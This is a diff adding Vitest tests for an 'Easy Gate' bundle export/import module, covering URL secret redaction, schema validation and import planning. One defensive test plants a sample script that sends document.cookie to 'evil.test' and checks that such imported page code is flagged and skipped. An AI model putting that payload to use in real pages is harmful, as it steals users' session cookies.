@@ -0,0 +1,150 @@
+import { describe, it, expect } from 'vitest'
+import { applyBundleImport, createGateBundle, GateBundleSource, parseGateBundle, planBundleImport, redactUrlSecrets, serializeGateBundle } from '../src/bundle/GateBundle'
+import { GateFrameOption } from '../src/GateOptions'
+
+const gate = (id: string, url: string, overrides: Partial<GateFrameOption> = {}): GateFrameOption => ({
+  id,
+  title: id,
+  icon: 'globe',
+  url,
+  profileKey: 'open-gate',
+  zoomFactor: 1,
+  ...overrides,
+})
+
+const source = (): GateBundleSource => ({
+  gates: {
+    chat: gate('chat', 'https://chat.test/?token=abc&lang=ko', { profileKey: 'work', css: 'body { zoom: 0.9 }' }),
+    docs: gate('docs', 'https://docs.test/'),
+  },
+  profiles: [
+    { key: 'open-gate', name: 'Default', color: 'gray' },
+    { key: 'work', name: 'Work', color: 'blue' },
+  ],
+  siteRules: [{ id: 'rule-1', hostPattern: '*.docs.test', enabled: true, contentSelectors: ['main'], removeSelectors: [] }],
+  templates: [
+    {
+      id: 'tpl-1',
+      name: 'Brief',
+      icon: 'file-text',
+      description: '',
+      systemPrompt: '',
+      userPrompt: '{{content}}',
+      outputFormat: 'summary',
+      sourcePath: 'Templates/Brief.md',
+    },
+  ],
+})
+
+const roundTrip = (value: GateBundleSource, ids: string[]) =>
+  parseGateBundle(serializeGateBundle(createGateBundle(value, ids, { siteRules: true, templates: true }, new Date('2024-05-01T00:00:00Z'))))
+
+describe('createGateBundle', () => {
+  it('exports only whitelisted fields and strips secrets from URLs', () => {
+    const value = source()
+    ;(value.gates.chat as GateFrameOption & { apiKey?: string }).apiKey = 'sk-secret'
+    const json = serializeGateBundle(createGateBundle(value, ['chat'], { siteRules: false, templates: true }))
+
+    expect(json).not.toContain('sk-secret')
+    expect(json).not.toContain('token=abc')
+    expect(json).not.toContain('sourcePath')
+
+    const bundle = JSON.parse(json)
+    expect(bundle.gates).toEqual([{ id: 'chat', title: 'chat', url: 'https://chat.test/?lang=ko', icon: 'globe', profileKey: 'work', zoomFactor: 1, css: 'body { zoom: 0.9 }' }])
+    expect(bundle.profiles).toEqual([{ key: 'work', name: 'Work', color: 'blue' }])
+    expect(bundle.siteRules).toEqual([])
+  })
+
+  it('leaves URLs without secret parameters untouched', () => {
+    expect(redactUrlSecrets('https://example.com/a?q=1')).toBe('https://example.com/a?q=1')
+    expect(redactUrlSecrets('not a url')).toBe('not a url')
+  })
+})
+
+describe('parseGateBundle', () => {
+  it('reads back an exported bundle', () => {
+    const bundle = roundTrip(source(), ['chat', 'docs'])
+    expect(bundle.gates.map((g) => g.id)).toEqual(['chat', 'docs'])
+    expect(bundle.siteRules[0]).toMatchObject({ id: 'rule-1', contentSelectors: ['main'] })
+    expect(bundle.templates[0]).toMatchObject({ id: 'tpl-1', outputFormat: 'summary' })
+  })
+
+  it('rejects other files and newer versions', () => {
+    expect(() => parseGateBundle('{')).toThrow('Not valid JSON.')
+    expect(() => parseGateBundle('{"version":1,"rules":[]}')).toThrow('not an Easy Gate bundle')
+    expect(() => parseGateBundle('{"format":"easy-gate-bundle","version":99,"gates":[]}')).toThrow('version 99')
+  })
+
+  it('reports every field that does not match the schema', () => {
+    const json = JSON.stringify({
+      format: 'easy-gate-bundle',
+      version: 1,
+      gates: [
+        { id: 'a', title: 'A', url: 'https://a.test', position: 'top', zoomFactor: '2' },
+        { id: 'b', title: 'B' },
+      ],
+      templates: 'none',
+    })
+
+    expect(() => parseGateBundle(json)).toThrow(
+      ['gates[0].position: expected left | center | right', 'gates[0].zoomFactor: expected number', 'gates[1].url: expected string', 'templates: expected array'].join('\n')
+    )
+  })
+})
+
+describe('planBundleImport / applyBundleImport', () => {
+  it('matches existing items by id or URL and proposes an action', () => {
+    const bundle = roundTrip(source(), ['chat', 'docs'])
+    const current = source()
+    current.gates = {
+      chat: { ...current.gates.chat, url: 'https://chat.test/?lang=ko' },
+      other: gate('other', 'https://docs.test'),
+    }
+    current.siteRules = [{ id: 'mine', hostPattern: '*.DOCS.test', enabled: true, contentSelectors: ['article'], removeSelectors: [] }]
+    current.templates = []
+
+    const items = planBundleImport(bundle, current)
+
+    expect(items.map((item) => [item.kind, item.existing?.matchedBy, item.action])).toEqual([
+      ['gate', 'id', 'skip'],
+      ['gate', 'url', 'replace'],
+      ['siteRule', 'hostPattern', 'replace'],
+      ['template', undefined, 'add'],
+    ])
+  })
+
+  it('flags page code and skips those items until the user opts in', () => {
+    const value = source()
+    value.gates.docs.js = 'fetch("https://evil.test", { body: document.cookie })'
+    value.siteRules[0].preScript = 'document.querySelector(".more").click()'
+    const bundle = roundTrip(value, ['chat', 'docs'])
+    const current: GateBundleSource = { gates: {}, profiles: [], siteRules: [], templates: [] }
+
+    const items = planBundleImport(bundle, current)
+
+    expect(items.map((item) => [item.name, item.code.map((code) => code.field), item.action])).toEqual([
+      ['chat', ['css'], 'skip'],
+      ['docs', ['js'], 'skip'],
+      ['*.docs.test', ['preScript'], 'skip'],
+      ['Brief', [], 'add'],
+    ])
+    expect(items[1].code[0].source).toBe(value.gates.docs.js)
+    expect(applyBundleImport(bundle, items, current).gates).toEqual([])
+  })
+
+  it('keeps existing ids on replace and creates new ones for keep both', () => {
+    const bundle = roundTrip(source(), ['chat', 'docs'])
+    const current: GateBundleSource = { ...source(), gates: { chat: gate('chat', 'https://old.test'), other: gate('other', 'https://docs.test') }, profiles: [] }
+    const items = planBundleImport(bundle, current)
+    items[0].action = 'keepBoth'
+
+    const result = applyBundleImport(bundle, items, current)
+
+    expect(result.gates[0].id).toMatch(/^chat-[a-z0-9]+$/)
+    expect(result.gates[1]).toMatchObject({ id: 'other', url: 'https://docs.test/' })
+    expect(result.profiles.map((profile) => profile.key)).toEqual(['open-gate', 'work'])
+    expect(result.siteRules).toHaveLength(1)
+    expect(result.templates).toHaveLength(1)
+    expect([result.added, result.replaced, result.skipped]).toEqual([1, 1, 2])
+  })
+})